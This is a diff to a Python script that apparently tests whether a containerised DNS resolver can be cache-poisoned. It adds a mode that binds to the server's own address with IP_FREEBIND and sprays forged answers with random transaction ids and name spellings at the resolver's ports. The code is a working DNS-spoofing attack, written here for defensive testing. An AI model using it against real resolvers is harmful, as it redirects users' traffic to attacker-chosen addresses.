@@ -1,7 +1,8 @@
 """Forged answers for whoever asks a resolver from this network namespace. Runs inside a container.
 
-`poison.py guarded|alone NAME ADDRESS SERVER PORT SECONDS`: tries to have NAME lead to ADDRESS in the eyes of those who asked SERVER, and knocks
-there. `alone`, a victim of our own is attacked that believes every answer from its resolver with the right id. What is printed is for the reader of a
+`poison.py guarded|alone loopback|turned NAME ADDRESS SERVER PORT SECONDS`: tries to have NAME lead to ADDRESS in the eyes of those who asked SERVER, and knocks
+there. `loopback`: as if the sidecar's own DNS server answered, over the loopback; `turned`: as if SERVER did, from its address, by way of the host.
+`alone`, a victim of our own is attacked that believes every answer from its resolver with the right id. What is printed is for the reader of a
 failed test only.
 """
 import os
@@ -12,6 +13,9 @@ import sys
 import time
 
 PKTINFO = 8
+FREEBIND = 15
+MORE = 0x8000
+UDP, CORK = 17, 1
 DNS = ("127.0.0.1", 15353)
 # A forger has its port on another address of the loopback, and its datagrams come from this one all the same.
 ELSEWHERE = "127.0.0.2"
@@ -76,11 +80,15 @@ def take_over(ports, server, port):
     return ", ".join("%d %s" % (said.count(what), what) for what in sorted(set(said)))
 
 
-def spray(name, address, ports, end):
+def forged(name, address):
+    """Answers that say so, in every spelling of the name, without their ids."""
+    record = struct.pack("!HHHIH", 0xC00C, 1, 1, 300, 4) + socket.inet_aton(address)
+    return [struct.pack("!5H", 0x8180, 1, 1, 0, 0) + question(spelled) + record for spelled in spellings(name)]
+
+
+def spray_loopback(tails, ports, server, port, end):
     """Answers of any id and case to every channel, as if the sidecar's own DNS server gave them."""
     me, info = own_address(), coming_from(DNS[0])
-    record = struct.pack("!HHHIH", 0xC00C, 1, 1, 300, 4) + socket.inet_aton(address)
-    tails = [struct.pack("!5H", 0x8180, 1, 1, 0, 0) + question(spelled) + record for spelled in spellings(name)]
     s = bound(DNS[1])
     while time.monotonic() < end:
         for _ in range(SPRAYED):
@@ -89,6 +97,28 @@ def spray(name, address, ports, end):
             except OSError:
                 pass
         time.sleep(0.005)
+
+
+def spray_turned(tails, ports, server, port, end):
+    """The same from the resolver's own address: a datagram finds its way out first, then a connect that fails writes source and destination anew."""
+    me = own_address()
+    info = coming_from(me)
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.setsockopt(socket.IPPROTO_IP, FREEBIND, 1)
+    s.bind((server, port))
+    while time.monotonic() < end:
+        for _ in range(SPRAYED):
+            try:
+                s.sendmsg([random.randbytes(2), random.choice(tails)], info, MORE, (server, 9))
+                try:
+                    s.connect((me, random.choice(ports)))
+                except OSError:
+                    pass
+                s.setsockopt(UDP, CORK, 1)
+                s.setsockopt(UDP, CORK, 0)
+            except OSError:
+                pass
+        time.sleep(0.002)
 
 
 def flood(name, server, port, end):
@@ -142,7 +172,7 @@ def child(work, *words):
     return pid
 
 
-def main(where, name, address, server, port, seconds):
+def main(where, way, name, address, server, port, seconds):
     begin = time.monotonic()
     end, port = begin + float(seconds), int(port)
     children = []
@@ -150,8 +180,11 @@ def main(where, name, address, server, port, seconds):
         children.append(child(victim, server, port, end))
         time.sleep(0.3)
     ports = channels(server, port)
-    print("%d channels, taken over: %s" % (len(ports), take_over(ports, server, port)))
-    children.append(child(spray, name, address, ports, end))
+    # Not for the other way: the host would take what comes back for a connection of its own, and give it another port.
+    taken = take_over(ports, server, port) if way == "loopback" else "none"
+    print("%d channels, taken over: %s" % (len(ports), taken))
+    spray = {"loopback": spray_loopback, "turned": spray_turned}[way]
+    children.append(child(spray, forged(name, address), ports, server, port, end))
     if where == "alone":
         os.waitpid(children.pop(0), 0)
     else:
